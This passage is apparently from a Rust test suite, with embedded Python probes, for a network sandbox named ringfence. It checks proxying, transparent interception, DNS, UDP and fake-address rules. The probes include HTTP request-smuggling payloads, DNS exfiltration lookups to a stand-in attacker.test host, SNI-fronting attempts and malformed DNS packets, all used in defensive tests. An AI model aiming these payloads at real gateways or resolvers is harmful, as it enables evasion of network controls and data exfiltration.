mid = make('mid.bin', 2 << 20)
out('mid-expected', mid)
curl('expect-plain', '-T', 'mid.bin', '-w', ' time=%{time_total}', 'http://allowed.test/upload?m=' + M + '-expect-plain')
curl('expect-tls', '--cacert', CA, '-T', 'mid.bin', '-w', ' time=%{time_total}',
     'https://allowed.test/upload?m=' + M + '-expect-tls')
curl('download', '--cacert', CA, '-o', '/dev/null', '-w', 'size=%{size_download}',
     'https://allowed.test/bytes?n=33554432')
curl('download-http', '-o', '/dev/null', '-w', 'size=%{size_download}', 'http://allowed.test/bytes?n=8388608')
"#;

/// HTTP details through the proxy: two requests on one keep-alive connection, a chunked
/// upload, a 64 MiB upload (the server's SHA-256 matches), `Expect: 100-continue` uploads
/// (curl -T of 2 MiB) over HTTP and HTTPS, and large downloads.
#[test]
fn http_keepalive_chunked_and_large_bodies() {
    each_identity("http", |lab, env, m| {
        let run = Run::sandboxed(lab, env, &["--allow-host", "allowed.test"], PY_HTTP, m);
        assert_code(&run.out, 0);
        run.expect("keepalive", &["200 200 same-connection=True", "hello from 192.0.2.10"]);
        let chunked = run.get("chunked");
        let (got, expected) = chunked.split_once(" expected=").unwrap();
        run.check(got == format!("200 {expected}"), &format!("chunked upload: {chunked}"));
        let big_expected = run.get("big-expected").to_string();
        run.expect("big", &["rc=0", &big_expected]);
        let mid_expected = run.get("mid-expected").to_string();
        for name in ["expect-plain", "expect-tls"] {
            run.expect(name, &["rc=0", &mid_expected]);
            run.one_request(lab, &format!("{m}-{name}"));
            // Without the 100 passed on, curl would wait a second before sending the body.
            let time: f64 = run.get(name).rsplit("time=").next().unwrap().trim().parse().unwrap();
            run.check(time < 0.9, &format!("{name}: the upload took {time} s (no 100 Continue?)"));
        }
        run.expect("download", &["rc=0", "size=33554432"]);
        run.expect("download-http", &["rc=0", "size=8388608"]);
        run.check(lab.requests_with(&format!("{m}-ka")).len() == 2, "keep-alive requests not seen");
        let up = run.event("net.connect", &[("proto", "http-connect"), ("host", "allowed.test")]);
        run.check(up["bytes_down"].as_u64().is_some(), "bytes");
        let total_down: u64 = run.events_with("net.connect", &[]).iter().filter_map(|e| e["bytes_down"].as_u64()).sum();
        let total_up: u64 = run.events_with("net.connect", &[]).iter().filter_map(|e| e["bytes_up"].as_u64()).sum();
        run.check(total_down > 40 << 20, &format!("net.connect bytes_down add up to {total_down}"));
        run.check(total_up > 64 << 20, &format!("net.connect bytes_up add up to {total_up}"));
    });
}

const PY_SMUGGLE: &str = r#"
import re
DIRECT = sys.argv[3] == 'direct'

def response(s):
    """One response: its status and body (None, '' when the connection just closed)."""
    data = recv_head(s)
    head, _, body = data.partition(b'\r\n\r\n')
    length = re.search(rb'(?i)\r\ncontent-length: *(\d+)', head)
    n = int(length.group(1)) if length else 0
    body += recv_until(s, lambda more: len(body) + len(more) >= n)
    return status(head), body.decode(errors='replace').strip()

def exchange(tag, headers, body):
    target = b'/upload?m=%s-%s-post' % (M.encode(), tag.encode())
    if DIRECT:
        s = socket.create_connection(('192.0.2.10', 80), timeout=2)
        head = b'POST %s HTTP/1.1\r\nHost: allowed.test\r\n' % target
    else:
        s = proxy(timeout=2)
        head = b'POST http://allowed.test%s HTTP/1.1\r\nHost: allowed.test\r\n' % target
    s.sendall(head + headers + b'\r\n' + body)
    code, text = response(s)
    if DIRECT:
        # The origin answers what it read after the body too, then closes.
        recv_all(s)
    out(tag, code, text)

posts = []

def post(tag, headers, body):
    """POST /upload?m=M-TAG-post with `headers` and `body` (bytes as they are) through the proxy,
    or, in the control, straight to the origin with the head a proxy would send on once it had
    dropped what `Connection` names and passed the body on as it came. The posts run side by
    side."""
    posts.append(threading.Thread(target=exchange, args=(tag, headers, body)))
    posts[-1].start()

def inner(tag, last=b'Connection: close\r\n\r\n'):
    """A second request, for a host the gateway never checked."""
    return b'GET /smuggled?m=%s-%s-inner HTTP/1.1\r\nHost: other.test\r\n%s' % (M.encode(), tag.encode(), last)

def expect(tag, body):
    out(tag + '-expected', 'len=%d sha256=%s' % (len(body), hashlib.sha256(body).hexdigest()))

# `Connection: content-length`: a gateway that drops the header sends the body unframed, and the
# origin reads it as a request of its own.
body = inner('cl')
expect('cl', body)
post('cl', b'' if DIRECT else b'Connection: content-length\r\nContent-Length: %d\r\n' % len(body), body)

# `Connection: transfer-encoding`: unframed, the chunk-size line `ACE /...` (size 0xACE, the
# rest a chunk extension) is a request line for the origin, and the chunk data holds a request.
data = b'Host: allowed.test\r\n\r\n' + inner('te')
data += b'Z' * (0xACE - len(data))
body = b'ACE /%s-te-ext HTTP/1.1\r\n' % M.encode() + data + b'\r\n0\r\n\r\n'
expect('te', data)
post('te', b'' if DIRECT else b'Connection: transfer-encoding\r\nTransfer-Encoding: chunked\r\n', body)

# Bare LFs: a server that ends a line at LF ends the body there; a gateway that reads on to the
# next CRLF takes the request that follows for chunk extension or trailer.
chunked = b'Transfer-Encoding: chunked\r\n'
post('ext-lf', chunked, b'0;a\n\r\n' + inner('ext-lf', b'Connection: ') + b'close\r\n\r\n')
post('trailer-lf', chunked, b'0\r\n\n' + inner('trailer-lf', b'Connection: ') + b'close\r\n\r\n')

if not DIRECT:
    body = inner('host')
    expect('host', body)
    post('host', b'Connection: host, content-length\r\nContent-Length: %d\r\n' % len(body), body)
    post('ext-ctl', chunked, b'5;a\x00b\r\nhello\r\n0\r\n\r\n')
    post('trailer-ctl', chunked, b'5\r\nhello\r\n0\r\nX-T: a\x01b\r\n\r\n')
    expect('chunked-ok', b'hello')
    post('chunked-ok', chunked, b'5;a=b\r\nhello\r\n0\r\nX-T: 1\r\n\r\n')
for t in posts:
    t.join()
"#;

/// Request smuggling through the HTTP proxy, checked at the origin, whose server reads a
/// connection's requests strictly by their framing and ends lines at a bare LF:
/// - `Connection: content-length` (or `transfer-encoding`, or `host`) on a POST whose body is a
///   second request for another host: the origin gets the POST with its framing and Host, and
///   its whole body, and never reads the body as a request;
/// - a chunked body with a bare LF in a chunk extension (`0;a\n`) or after the last chunk
///   (`0\r\n\n`) followed by a request, or with a control byte in an extension or trailer: the
///   request fails, and the origin never sees what followed.
///
/// Controls: a chunked body with an extension and a trailer goes through, and the same bytes,
/// sent straight to the origin the way a gateway that let them through would pass them on
/// (the framing header dropped, the bare LFs kept), make the origin read each hidden request.
#[test]
fn request_smuggling_reaches_no_origin() {
    each_identity("smuggle", |lab, env, m| {
        let run = Run::sandboxed_argv(lab, env, &["--allow-host", "allowed.test"], PY_SMUGGLE, &[m, "proxy"]);
        assert_code(&run.out, 0);
        for tag in ["cl", "te", "host", "chunked-ok"] {
            let expected = run.get(&format!("{tag}-expected")).to_string();
            run.expect(tag, &["200", &expected]);
            let seen = run.one_request(lab, &format!("{m}-{tag}-post"));
            run.check(seen.method == "POST" && seen.host == "allowed.test", &format!("{tag}: {seen:?}"));
        }
        // A refused body gets its answer at once: 400, not a wait for a timeout.
        for tag in ["ext-lf", "trailer-lf", "ext-ctl", "trailer-ctl"] {
            run.expect(tag, &["400"]);
            run.expect_not(tag, &["200", "len="]);
        }
        // Nothing but the POSTs themselves reached the origin.
        let seen = lab.requests_with(m);
        let unchecked: Vec<&Request> = seen
            .iter()
            .filter(|r| r.method != "POST" || !r.target.ends_with("-post") || r.host != "allowed.test")
            .collect();
        run.check(unchecked.is_empty(), &format!("the origin read requests the gateway never checked: {unchecked:#?}"));
        run.check(seen.len() <= 8, &format!("the origin saw {seen:?}"));

        // Control: sent straight to the origin as they would arrive through a gateway that let
        // them pass, the same bodies are read as the requests they hide.
        let c = unique("smugglectl");
        let direct = Run::unsandboxed_over(lab, env, &[], PY_SMUGGLE, &[&c, "direct"]);
        for tag in ["cl", "te", "ext-lf", "trailer-lf"] {
            direct.expect(tag, &["200"]);
            let hidden = direct.one_request(lab, &format!("{c}-{tag}-inner"));
            direct.check(hidden.method == "GET" && hidden.host == "other.test", &format!("{tag}: {hidden:?}"));
        }
        direct.one_request(lab, &format!("{c}-te-ext"));
    });
}

const PY_NONE: &str = r#"
for port in (3128, 1080):
    try:
        socket.create_connection(('127.0.0.1', port), timeout=3)
        out('port-%d' % port, 'OPEN')
    except Exception as e:
        out('port-%d' % port, 'CLOSED', e)
for var in ('HTTP_PROXY', 'HTTPS_PROXY', 'http_proxy', 'https_proxy', 'ALL_PROXY', 'all_proxy',
            'NO_PROXY', 'no_proxy', 'npm_config_proxy', 'npm_config_https_proxy'):
    out(var, os.environ.get(var))
"#;

/// With the default network (and an explicit `--network none`) there is no proxy: its
/// ports refuse connections and no proxy variable is set. Control: with `--allow-host` the
/// ports answer and the variables point at them.
#[test]
fn no_proxy_without_allow_rules() {
    each_identity("none", |lab, env, m| {
        for args in [&[][..], &["--network", "none"][..]] {
            let run = Run::sandboxed(lab, env, args, PY_NONE, m);
            assert_code(&run.out, 0);
            run.expect("port-3128", &["CLOSED"]);
            run.expect("port-1080", &["CLOSED"]);
            for var in ["HTTP_PROXY", "https_proxy", "ALL_PROXY", "NO_PROXY", "npm_config_proxy"] {
                run.expect(var, &["None"]);
            }
        }
        let run = Run::sandboxed(lab, env, &["--allow-host", "allowed.test"], PY_NONE, m);
        run.expect("port-3128", &["OPEN"]);
        run.expect("port-1080", &["OPEN"]);
        for var in
            ["HTTP_PROXY", "HTTPS_PROXY", "http_proxy", "https_proxy", "npm_config_proxy", "npm_config_https_proxy"]
        {
            run.expect(var, &["http://127.0.0.1:3128"]);
        }
        for var in ["ALL_PROXY", "all_proxy"] {
            run.expect(var, &["socks5h://127.0.0.1:1080"]);
        }
        for var in ["NO_PROXY", "no_proxy"] {
            run.expect(var, &["localhost", "127.0.0.1", "::1"]);
        }
    });
}

/// `ringfence explain --allow-preset npm` lists the npm registry (without network access);
/// without the preset it does not.
#[test]
fn explain_lists_preset_hosts() {
    each_identity("explain", |lab, env, _| {
        let who = env.who;
        for (args, listed) in [(&["explain", "--allow-preset", "npm"][..], true), (&["explain"][..], false)] {
            let out = bounded_output(lab.ringfence(env, args), RUN_LIMIT);
            assert_code(&out, 0);
            assert_eq!(stdout(&out).contains("registry.npmjs.org"), listed, "{who:?} {args:?}:\n{}", both(&out));
        }
    });
}

// ---------------------------------------------------------------------------------------------
// The transparent path: programs that ignore the proxy variables.

/// Helpers of the transparent probes: programs run without any proxy variable.
const PY_DIRECT: &str = r#"
import asyncio, resource
noproxy = {k: v for k, v in os.environ.items() if 'proxy' not in k.lower()}
noproxy['NODE_EXTRA_CA_CERTS'] = CA

def run(name, argv, stdin=None, timeout=30):
    try:
        p = subprocess.run(argv, capture_output=True, env=noproxy, timeout=timeout, input=stdin)
        out(name, 'rc=%d' % p.returncode, (p.stdout + p.stderr).decode(errors='replace'))
    except subprocess.TimeoutExpired:
        out(name, 'TIMEOUT')

NODE = ("fetch(process.argv[1]).then(r => r.text()).then(t => console.log('OK', t), "
        "e => console.log('ERR', String((e.cause && (e.cause.code || e.cause.message)) || e)))")

def node(name, url):
    run(name, ['node', '-e', NODE, url])

def raw_tls(name, host, port, sni, path):
    try:
        out(name, https_get(socket.create_connection((host, port), timeout=10), sni, path))
    except Exception as e:
        out(name, 'FAILED', repr(e))

def raw_tcp(name, host, port, payload=b'', family=0):
    try:
        s = socket.create_connection((host, port), timeout=5) if not family else socket.socket(family)
        if family:
            s.settimeout(5)
            s.connect((host, port))
        s.sendall(payload)
        out(name, 'CONNECTED', recv_all(s).decode(errors='replace')[:200])
    except Exception as e:
        out(name, 'FAILED', e)

def http(host, path, hosthdr='allowed.test'):
    return b'GET %s HTTP/1.1\r\nHost: %s\r\nConnection: close\r\n\r\n' % (path.encode(), hosthdr.encode())
"#;

const PY_TRANSPARENT: &str = r#"
node('node', 'https://allowed.test/hello?m=%s-node' % M)
raw_tls('py-tls', 'allowed.test', 443, 'allowed.test', '/hello?m=%s-py-tls' % M)
run('curl', ['curl', '-sS', '-m', '20', '--noproxy', '*', '--cacert', CA, 'https://allowed.test/hello?m=%s-curl' % M])
run('nc', ['nc', '-q', '2', '-w', '5', 'allowed.test', '22'], stdin=b'line-%s\n' % M.encode())
run('ssh', ['ssh', '-o', 'BatchMode=yes', '-o', 'StrictHostKeyChecking=no', '-o', 'UserKnownHostsFile=/dev/null',
            '-o', 'ConnectTimeout=5', 'git@allowed.test'])
node('node-denied', 'https://d%s.wild.test/hello?m=%s-denied' % (M, M))
run('curl-denied', ['curl', '-sS', '-m', '20', '--noproxy', '*', '--cacert', CA, 'https://d%s.wild.test/?m=%s-denied' % (M, M)])
raw_tcp('ip-literal', '192.0.2.11', 80, http('other.test', '/hello?m=%s-literal' % M, 'other.test'))
raw_tcp('port-not-named', 'allowed.test', 2323, b'deny-%s' % M.encode())
run('nc-denied', ['nc', '-q', '2', '-w', '5', 'other.test', '22'], stdin=b'deny-%s\n' % M.encode())
"#;

/// Programs that ignore proxy variables (Node's built-in `fetch`, a raw Python socket doing
/// TLS, `curl --noproxy '*'`, `nc` and `ssh` to a port a rule names) reach the allowed host
/// through the transparent path, and each connection is a `net.connect`. The same programs
/// are refused for hosts no rule allows, each refusal a `net.deny` naming the program's
/// destination, and the lab's servers saw nothing of them. Control: without ringfence the
/// same script reaches every server.
#[test]
fn programs_without_proxy_settings_reach_allowed_hosts_only() {
    each_identity("transp", |lab, env, m| {
        let ssh_before = lab.lines_with("SSH-2.0-OpenSSH").len();
        let args = ["--allow-host", "allowed.test", "--allow-host", "allowed.test:22"];
        let code = format!("{PY_DIRECT}\n{PY_TRANSPARENT}");
        let run = Run::sandboxed(lab, env, &args, &code, m);
        assert_code(&run.out, 0);
        run.expect("node", &["OK hello from 192.0.2.10 host=allowed.test tls=true"]);
        run.expect("py-tls", &["hello from 192.0.2.10 host=allowed.test tls=true"]);
        run.expect("curl", &["rc=0", "hello from 192.0.2.10 host=allowed.test tls=true"]);
        for name in ["node", "py-tls", "curl"] {
            run.one_request(lab, &format!("{m}-{name}"));
        }
        run.expect("nc", &["SSH-2.0-ringfence-lab", &format!("line-{m}")]);
        run.check(!lab.lines_with(&format!("line-{m}")).is_empty(), "the line server saw nothing of nc");
        run.check(lab.lines_with("SSH-2.0-OpenSSH").len() > ssh_before, "the line server saw no SSH client");
        run.event("net.connect", &[("proto", "tcp"), ("host", "allowed.test"), ("port", "443")]);
        let ssh = run.event("net.connect", &[("proto", "tcp"), ("host", "allowed.test"), ("port", "22")]);
        run.check(ssh["rule"] == "allowed.test:22" && ssh["addr"] == "192.0.2.10:22", &format!("{ssh}"));

        // The refusals: names are refused by the resolver, addresses and ports at connect(2).
        let denied = format!("d{m}.wild.test");
        run.expect("node-denied", &["ERR", "ENOTFOUND"]);
        run.expect("curl-denied", &["rc=6"]);
        run.expect("ip-literal", &["FAILED", "Connection refused"]);
        run.expect("port-not-named", &["FAILED", "Connection refused"]);
        run.expect_not("nc-denied", &["SSH-2.0-ringfence-lab"]);
        run.check_unreached(lab, &denied);
        run.check(lab.requests_with(&format!("{m}-literal")).is_empty(), "the IP literal was reached");
        run.check(lab.lines_with(&format!("deny-{m}")).is_empty(), "a refused connection reached the line server");
        run.event("net.deny", &[("proto", "dns"), ("host", &denied), ("reason", "not-allowed")]);
        run.event("net.deny", &[("proto", "tcp"), ("host", "192.0.2.11"), ("port", "80"), ("reason", "not-allowed")]);
        run.event(
            "net.deny",
            &[("proto", "tcp"), ("host", "allowed.test"), ("port", "2323"), ("reason", "not-allowed")],
        );
        run.event("net.deny", &[("proto", "dns"), ("host", "other.test")]);

        // Control: without ringfence every probe gets through.
        let c = unique("transpctl");
        let host = Run::unsandboxed(lab, env, &code, &c);
        host.expect("node-denied", &["OK hello from 192.0.2.10"]);
        host.expect("ip-literal", &["CONNECTED", "hello from 192.0.2.11"]);
        host.expect("nc-denied", &["SSH-2.0-ringfence-lab"]);
        host.check(!lab.lines_with(&format!("deny-{c}")).is_empty(), "control: the line server saw nothing");
    });
}

const PY_DNS_EXFIL: &str = r#"
try:
    socket.getaddrinfo('g%s.attacker.test' % M, 443)
    out('gai', 'RESOLVED')
except Exception as e:
    out('gai', 'FAILED', e)
run('dig-udp', ['dig', '+time=3', '+tries=1', 'u%s.attacker.test' % M])
run('dig-tcp', ['dig', '+tcp', '+time=3', '+tries=1', 't%s.attacker.test' % M])
run('dig-direct', ['dig', '@192.0.2.53', '+time=3', '+tries=1', 'TXT', 'x%s.attacker.test' % M])
run('dig-allowed', ['dig', '+short', '+time=3', '+tries=1', 'ok%s.wild.test' % M])
run('dig-allowed-tcp', ['dig', '+short', '+tcp', '+time=3', '+tries=1', 'AAAA', 'ok%s.wild.test' % M])
"#;

/// DNS exfiltration: `getaddrinfo`, `dig` over UDP and TCP, and `dig @server` of
/// `<secret>.attacker.test` get NXDOMAIN from the sandbox's resolver and never reach the lab's
/// resolver; each lookup is a `net.deny`. An allowed name gets a fake address (IPv4 and IPv6),
/// and the gateway's own lookup of it reaches the lab (control); so does the same `dig`
/// without ringfence.
#[test]
fn dns_exfiltration_never_reaches_the_resolver() {
    each_identity("exfil", |lab, env, m| {
        let args = ["--allow-host", "allowed.test", "--allow-host", "*.wild.test"];
        let code = format!("{PY_DIRECT}\n{PY_DNS_EXFIL}");
        let run = Run::sandboxed(lab, env, &args, &code, m);
        assert_code(&run.out, 0);
        run.expect("gai", &["FAILED"]);
        for name in ["dig-udp", "dig-tcp", "dig-direct"] {
            run.expect(name, &["rc=0", "status: NXDOMAIN"]);
        }
        let exfil = format!("{m}.attacker.test");
        run.check(
            lab.queries_with(&exfil).is_empty(),
            &format!("the lab's resolver saw {:?}", lab.queries_with(&exfil)),
        );
        for prefix in ["g", "u", "t", "x"] {
            run.event(
                "net.deny",
                &[("proto", "dns"), ("host", &format!("{prefix}{exfil}")), ("reason", "not-allowed")],
            );
        }
        run.expect("dig-allowed", &["rc=0", "198.18."]);
        run.expect("dig-allowed-tcp", &["rc=0", "fd72:696e:6766::"]);
        let allowed = format!("ok{m}.wild.test");
        run.check(lab.queries_with(&allowed).iter().any(|q| q.name == allowed), "the allowed name was not resolved");
        run.event("net.dns", &[("name", &allowed)]);

        // Control: without ringfence the question reaches the lab's resolver.
        let c = unique("exfilctl");
        let host = Run::unsandboxed(lab, env, &code, &c);
        host.expect("dig-direct", &["rc=0"]);
        assert!(!lab.queries_with(&format!("x{c}.attacker.test")).is_empty(), "control: no query arrived");
    });
}

const PY_FAKES: &str = r#"
fake = socket.getaddrinfo('allowed.test', 443, socket.AF_INET)[0][4][0]
fake6 = socket.getaddrinfo('allowed.test', 443, socket.AF_INET6)[0][4][0]
out('fake', fake, fake6)
raw_tls('same-sni', fake, 443, 'allowed.test', '/hello?m=%s-same' % M)
raw_tls('other-sni', fake, 443, 'f%s.wild.test' % M, '/hello?m=%s-front' % M)
x = 'x%s.wild.test' % M
xfake = socket.getaddrinfo(x, 80, socket.AF_INET)[0][4][0]
raw_tcp('denied-port', xfake, 443)
raw_tcp('allowed-port', xfake, 80, http(x, '/hello?m=%s-xport' % M, x))
raw_tcp('unassigned', '198.18.255.1', 443)
raw_tcp('v6-fake', fake6, 80, http('allowed.test', '/hello?m=%s-v6fake' % M), socket.AF_INET6)
raw_tcp('v6-listed', '2001:db8::10', 80, http('allowed.test', '/hello?m=%s-v6listed' % M, '[2001:db8::10]'), socket.AF_INET6)
raw_tcp('v6-unlisted', '2001:db8::11', 80, http('allowed.test', '/hello?m=%s-v6unlisted' % M), socket.AF_INET6)
"#;

/// Fake addresses: a TLS connection to an allowed name's fake address must name that host
/// (another SNI is refused before the hello reaches any server), the fake address of a name
/// whose port is denied is refused, and an address of the pool that was never given out is
/// refused. IPv6 follows the same rules: the fake IPv6 address works, a listed IPv6 address
/// works, an unlisted one is refused.
#[test]
fn fake_addresses_and_ipv6_obey_the_rules() {
    each_identity("fakes", |lab, env, m| {
        let x = format!("x{m}.wild.test");
        let deny = format!("{x}:443");
        let args = [
            "--allow-host",
            "allowed.test",
            "--allow-host",
            "*.wild.test",
            "--deny-host",
            &deny,
            "--allow-host",
            "[2001:db8::10]:80",
        ];
        let code = format!("{PY_DIRECT}\n{PY_FAKES}");
        let run = Run::sandboxed(lab, env, &args, &code, m);
        assert_code(&run.out, 0);
        run.expect("fake", &["198.18.", "fd72:696e:6766::"]);
        run.expect("same-sni", &["hello from 192.0.2.10 host=allowed.test tls=true"]);
        run.expect_not("other-sni", &["hello from"]);
        run.check(lab.hellos_with(&format!("f{m}")).is_empty(), "the fronted hello reached a server");
        run.check(lab.requests_with(&format!("{m}-front")).is_empty(), "the fronted request reached a server");
        run.denied("allowed.test", "sni-mismatch");
        run.expect("denied-port", &["FAILED", "Connection refused"]);
        run.event("net.deny", &[("host", &x), ("port", "443"), ("reason", "denied")]);
        run.expect("allowed-port", &["CONNECTED", &format!("hello from 192.0.2.10 host={x}")]);
        run.expect("unassigned", &["FAILED", "Connection refused"]);
        run.event("net.deny", &[("host", "198.18.255.1"), ("reason", "unknown-address")]);
        run.expect("v6-fake", &["CONNECTED", "hello from 192.0.2.10 host=allowed.test"]);
        run.expect("v6-listed", &["CONNECTED", "hello from 2001:db8::10"]);
        run.expect("v6-unlisted", &["FAILED", "Connection refused"]);
        run.check(lab.requests_with(&format!("{m}-v6unlisted")).is_empty(), "the unlisted IPv6 address was reached");
        run.event("net.deny", &[("host", "2001:db8::11"), ("port", "80"), ("reason", "not-allowed")]);
    });
}

const PY_LOAD: &str = r#"
soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
addr = socket.getaddrinfo('allowed.test', 80, socket.AF_INET)[0][4][0]

async def one(i):
    r, w = await asyncio.open_connection(addr, 80)
    w.write(http('allowed.test', '/hello?m=%s-par%d' % (M, i)))
    await w.drain()
    data = await r.read()
    w.close()
    return b'hello from 192.0.2.10' in data

async def parallel():
    return sum(await asyncio.gather(*(one(i) for i in range(1000))))
out('parallel', asyncio.run(parallel()))

n = 1 << 30
block = bytes(ord('a') + i % 26 for i in range(65536))
want = hashlib.sha256()
for _ in range(n // len(block)):
    want.update(block)
s = socket.create_connection(('allowed.test', 80), timeout=60)
s.sendall(http('allowed.test', '/bytes?n=%d' % n))
data = recv_head(s)
head, body = data.split(b'\r\n\r\n', 1)
got, count = hashlib.sha256(body), len(body)
while True:
    chunk = s.recv(1 << 20)
    if not chunk:
        break
    got.update(chunk)
    count += len(chunk)
out('big', count, got.hexdigest() == want.hexdigest())

# Keep-alive: three requests, one after the other, on one connection.
s = socket.create_connection(('allowed.test', 80), timeout=10)
answered = 0
for i in range(3):
    s.sendall(b'GET /hello?m=%s-ka%d HTTP/1.1\r\nHost: allowed.test\r\n\r\n' % (M.encode(), i))
    data = recv_head(s)
    head, body = data.split(b'\r\n\r\n', 1)
    length = int([l.split(b':')[1] for l in head.split(b'\r\n') if l.lower().startswith(b'content-length:')][0])
    while len(body) < length:
        body += s.recv(65536)
    answered += b'hello from 192.0.2.10' in body
out('keepalive', answered)
s.close()

s = socket.create_connection(('allowed.test', 2323), timeout=10)
s.sendall(b'hello')
try:
    out('reset', 'DATA', s.recv(100))
except ConnectionResetError as e:
    out('reset', 'ECONNRESET')
except Exception as e:
    out('reset', 'OTHER', repr(e))
"#;

/// Load and failures on the transparent path: 1,000 connections at once all complete, a
/// 1 GiB download arrives whole (its SHA-256 matches), three requests share one kept-alive
/// connection, and a server's reset reaches the program as ECONNRESET.
#[test]
fn transparent_path_under_load_and_resets() {
    each_identity("load", |lab, env, m| {
        let args = ["--allow-host", "allowed.test", "--allow-host", "allowed.test:2323"];
        let code = format!("{PY_DIRECT}\n{PY_LOAD}");
        let run = Run::sandboxed(lab, env, &args, &code, m);
        assert_code(&run.out, 0);
        run.expect("parallel", &["1000"]);
        run.check(lab.requests_with(&format!("{m}-par")).len() == 1000, "the server did not see 1000 requests");
        run.expect("big", &["1073741824 True"]);
        run.expect("reset", &["ECONNRESET"]);
        run.expect("keepalive", &["3"]);
        run.check(lab.requests_with(&format!("{m}-ka")).len() == 3, "the server did not see the kept-alive requests");
    });
}

const PY_UDP: &str = r#"
u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
u.sendto(b'quic-%s' % M.encode(), ('allowed.test', 443))
u.sendto(b'ntp-%s' % M.encode(), ('192.0.2.10', 123))
try:
    u6 = socket.socket(socket.AF_INET6, socket.SOCK_DGRAM)
    u6.sendto(b'quic6-%s' % M.encode(), (socket.getaddrinfo('allowed.test', 443, socket.AF_INET6)[0][4][0], 443))
except OSError as e:
    out('udp6', 'FAILED', e)
c = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
c.settimeout(3)
c.connect(('allowed.test', 443))
try:
    for _ in range(3):
        c.send(b'quicc-%s' % M.encode())
        time.sleep(0.1)
    c.recv(100)
    out('connected-udp', 'ANSWERED')
except ConnectionRefusedError:
    out('connected-udp', 'REFUSED')
except Exception as e:
    out('connected-udp', 'OTHER', repr(e))
for name, kind in (('icmp-raw', socket.SOCK_RAW), ('icmp-ping', socket.SOCK_DGRAM)):
    try:
        socket.socket(socket.AF_INET, kind, socket.IPPROTO_ICMP).sendto(b'\x08\0\0\0\0\0\0\0', ('192.0.2.10', 0))
        out(name, 'SENT')
    except PermissionError as e:
        out(name, 'REFUSED', e)
    except Exception as e:
        out(name, 'OTHER', repr(e))
time.sleep(0.5)
"#;

/// UDP other than DNS (QUIC to port 443, NTP, over IPv4 and IPv6, connected or not) is
/// dropped: nothing reaches the lab's UDP servers, a connected socket learns the port is
/// unreachable (so HTTP/3 clients fall back to TCP), and each destination is a `net.deny` with
/// reason `udp`. ICMP sockets are refused. Control: without ringfence the datagrams arrive.
#[test]
fn udp_is_dropped_and_recorded() {
    each_identity("udp", |lab, env, m| {
        let code = format!("{PY_DIRECT}\n{PY_UDP}");
        let run = Run::sandboxed(lab, env, &["--allow-host", "allowed.test"], &code, m);
        assert_code(&run.out, 0);
        run.check(lab.datagrams_with(m) == 0, "a datagram reached the lab");
        run.expect("connected-udp", &["REFUSED"]);
        run.expect("icmp-raw", &["REFUSED"]);
        run.expect("icmp-ping", &["REFUSED"]);
        for (host, port) in [("allowed.test", "443"), ("192.0.2.10", "123")] {
            run.event("net.deny", &[("proto", "udp"), ("host", host), ("port", port), ("reason", "udp")]);
        }
        let quic = run.events_with("net.deny", &[("proto", "udp"), ("host", "allowed.test"), ("port", "443")]);
        run.check(quic.len() == 2, "one event per destination address (the fake IPv4 and IPv6 ones)");

        let c = unique("udpctl");
        let host = Run::unsandboxed(lab, env, &code, &c);
        host.check(lab.datagrams_with(&c) >= 3, "control: the datagrams did not arrive");
    });
}

/// With the supervisor killed by SIGKILL, the sandbox has no network: a detached process
/// that keeps connecting (through the transparent path, which worked before the kill) gets
/// nothing more to the lab.
#[test]
fn a_killed_supervisor_leaves_no_way_out() {
    each_identity("killsup", |lab, env, m| {
        let script = format!(
            "setsid python3 -c \"
import socket, time
i = 0
while True:
    i += 1
    try:
        s = socket.create_connection(('allowed.test', 80), timeout=1)
        s.sendall(b'GET /hello?m={m}-%d HTTP/1.1\\\\r\\\\nHost: allowed.test\\\\r\\\\nConnection: close\\\\r\\\\n\\\\r\\\\n' % i)
        s.recv(100)
    except Exception:
        pass
    time.sleep(0.1)
\" </dev/null >/dev/null 2>&1 &
sleep 60"
        );
        let mut cmd = lab.ringfence(env, &["run", "--allow-host", "allowed.test", "--", "sh", "-c", &script]);
        let mut child = cmd.stdout(std::process::Stdio::null()).stderr(std::process::Stdio::null()).spawn().unwrap();
        let reached = poll_until(std::time::Duration::from_secs(20), || lab.requests_with(m).len() >= 3);
        assert!(reached, "{:?}: the detached loop never got through before the kill", env.who);
        nix::sys::signal::kill(nix::unistd::Pid::from_raw(child.id() as i32), nix::sys::signal::Signal::SIGKILL)
            .unwrap();
        let _ = child.wait();
        std::thread::sleep(std::time::Duration::from_millis(300));
        let at_kill = lab.requests_with(m).len();
        std::thread::sleep(std::time::Duration::from_secs(3));
        assert_eq!(lab.requests_with(m).len(), at_kill, "{:?}: requests arrived after the kill", env.who);
    });
}

const PY_HOSTILE: &str = r#"
import struct

def name_bytes(name):
    return b''.join(bytes([len(l)]) + l for l in name.split(b'.')) + b'\0'

def query(name, qtype=1, flags=0x0100, count=1):
    return struct.pack('!HHHHHH', 0x1234, flags, count, 0, 0, 0) + name_bytes(name) + struct.pack('!HH', qtype, 1)

def udp(name, payload, to='192.0.2.53'):
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    s.settimeout(1)
    s.sendto(payload, (to, 53))
    try:
        reply = s.recv(65535)
        out(name, 'ANSWER', 'rcode=%d' % (reply[3] & 15) if len(reply) > 3 else 'short')
    except socket.timeout:
        out(name, 'SILENT')

secret = ('h%s.attacker.test' % M).encode()
header = struct.pack('!HHHHHH', 0x4242, 0x0100, 1, 0, 0, 0)
udp('empty', b'')
udp('garbage', bytes(range(256)) * 2)
udp('response', query(secret, flags=0x8180))
udp('pointer-loop', header + b'\xc0\x0c' + struct.pack('!HH', 1, 1))
udp('no-question', struct.pack('!HHHHHH', 1, 0x0100, 0, 0, 0, 0))
udp('many-questions', query(b'p' + secret, count=65535))
udp('binary-label', query(b'a\x00b.' + b'n' + secret))
udp('txt', query(b't' + secret, qtype=16), to='1.1.1.1')
udp('long-name', query(b'.'.join([b'x' * 63] * 3) + b'.l' + secret))

# DNS over TCP: a length that is never sent whole, then a question one byte at a time.
s = socket.create_connection(('192.0.2.53', 53), timeout=5)
s.sendall(b'\xff\xff' + b'z' * 100)
s.close()
s = socket.create_connection(('192.0.2.53', 53), timeout=5)
msg = query(b'b' + secret)
for b in struct.pack('!H', len(msg)) + msg:
    s.send(bytes([b]))
reply = recv_until(s, lambda d: len(d) >= 2 and len(d) >= 2 + struct.unpack('!H', d[:2])[0])
